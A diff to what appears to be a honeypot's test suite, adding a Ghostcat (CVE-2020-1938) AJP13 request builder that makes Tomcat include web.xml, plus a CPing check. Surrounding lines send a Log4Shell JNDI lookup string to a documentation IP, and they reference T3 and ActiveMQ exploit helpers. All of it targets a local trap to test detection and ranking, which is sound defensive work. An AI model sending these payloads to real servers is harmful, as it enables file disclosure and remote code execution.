@@ -39,6 +39,18 @@ def t3_object(gadget):
             struct.pack(">H", len(gadget)) + gadget + b"\x00" * 24)
 
 
+def ajp_ghostcat():
+    """CVE-2020-1938 as the public PoC sends it: an AJP13 FORWARD_REQUEST whose attributes make Tomcat
+    include /WEB-INF/web.xml."""
+    def s(b):
+        return struct.pack(">H", len(b)) + b + b"\x00"
+    body = b"\x02\x02" + s(b"HTTP/1.1") + s(b"/asdf") + s(b"127.0.0.1") + s(b"localhost") + s(b"localhost")
+    body += b"\x00\x50\x00\x00\x00"
+    for k, v in ((b"request_uri", b"/"), (b"path_info", b"WEB-INF/web.xml"), (b"servlet_path", b"/")):
+        body += b"\x0a" + s(b"javax.servlet.include." + k) + s(v)
+    return b"\x12\x34" + struct.pack(">H", len(body) + 1) + body + b"\xff"
+
+
 def talk(port, chunks, pause=0.5):
     """Send each chunk, reading what comes back between them; returns the bytes received."""
     s = socket.create_connection(("127.0.0.1", port), timeout=T(5))
@@ -67,7 +79,7 @@ def payload_of(evs, session):
 @case
 def trap_exploits_recognised_answered_and_ranked(ctx):
     """T3 (answered, then CVE-2016-0638), ActiveMQ CVE-2023-46604 (its XML fetched), Log4Shell sprayed
-    raw, NTP monlist over UDP (never answered) and a benign line: classes, CVEs and rules on the
+    raw, AJP's CPing (answered) and Ghostcat, NTP monlist over UDP (never answered) and a benign line: classes, CVEs and rules on the
     trap.payload events, in JSONL and SQLite alike; the report's CVE and attack-class rankings count
     them from the roll-ups and from the events."""
     web = WebServer()
@@ -101,6 +113,9 @@ def trap_exploits_recognised_answered_and_ranked(ctx):
     talk(port, [openwire_exploit(url)])
     assert talk(port, [b"${jndi:ldap://198.51.100.3:1389/Basic/Command/Base64/aWQ=}\r\n"]) == b""
     assert talk(port, [b"hello\r\n"]) == b""
+    # Tomcat's AJP connector: the CPing gets the CPong, Ghostcat's request is recorded
+    assert talk(port, [b"\x12\x34\x00\x01\x0a"]) == b"AB\x00\x01\x09"
+    talk(port, [ajp_ghostcat()])
     u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     u.settimeout(0.5)
     u.sendto(bytes([0x17, 0x00, 0x03, 0x2a]) + b"\x00" * 4, ("127.0.0.1", uport))
@@ -119,7 +134,7 @@ def trap_exploits_recognised_answered_and_ranked(ctx):
 
     wait_download(d, url)
     d.wait_event(lambda e: e["eventid"] == "trap.payload" and e.get("transport") == "udp", what="UDP payload")
-    wait_for(lambda: len(by(d.events(), "session.closed")) >= 4, T(10), what="4 sessions closed")
+    wait_for(lambda: len(by(d.events(), "session.closed")) >= 6, T(10), what="6 sessions closed")
     evs = stop_and_read(d)
 
     pl = [e for e in evs if e["eventid"] == "trap.payload"]
@@ -145,6 +160,9 @@ def trap_exploits_recognised_answered_and_ranked(ctx):
     assert web.count("/poc.xml") == 1
     l4 = one_with("log4shell_jndi_lookup")
     assert l4["cves"] == ["CVE-2021-44228"] and "jndi" in l4["attack_classes"], l4
+    assert one_with("ajp13_cping")["reply_rule"] == "ajp13_cping"
+    gc = one_with("ajp13_ghostcat")
+    assert gc["cves"] == ["CVE-2020-1938"] and "lfi" in gc["attack_classes"], gc
     ntp = one_with("ntp_monlist")
     assert ntp["transport"] == "udp" and ntp["cves"] == ["CVE-2013-5211"] and "reply_rule" not in ntp, ntp
     benign = [e for e in pl if e.get("payload") == "hello\r\n"]
